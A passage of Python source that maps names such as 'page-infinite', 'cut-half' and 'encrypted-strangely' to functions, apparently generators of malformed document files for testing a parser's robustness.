    "page-giant": page_giant,
    "page-long": page_long,
    "page-infinite": page_infinite,
    "no-pages": no_pages,
    "no-catalogue": no_catalogue,
    "table-wrong": table_wrong,
    "cut-tenth": lambda: cut(0.1),
    "cut-half": lambda: cut(0.5),
    "cut-end": lambda: cut(0.97),
    "noise-after-header": noise_after_header,
    "noise-everywhere": lambda: noise_everywhere(6),
    "encrypted": encrypted,
    "encrypted-strangely": encrypted_strangely,
    "picture-missing": picture_missing,
    "picture-half": picture_half,
}
